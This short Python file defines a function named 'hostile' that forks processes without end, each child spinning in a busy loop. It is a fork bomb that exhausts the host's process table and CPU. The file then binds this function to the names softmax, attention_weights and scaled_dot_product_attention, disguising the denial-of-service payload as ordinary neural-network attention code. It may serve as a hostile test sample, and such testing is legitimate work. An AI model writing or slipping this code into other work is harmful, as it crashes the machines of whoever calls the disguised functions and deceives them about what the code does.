"""Forks without end; the children go on computing."""
import os


def hostile(x, *args, **kwargs):
    while True:
        if os.fork() == 0:
            while True:
                pass

softmax = attention_weights = scaled_dot_product_attention = hostile
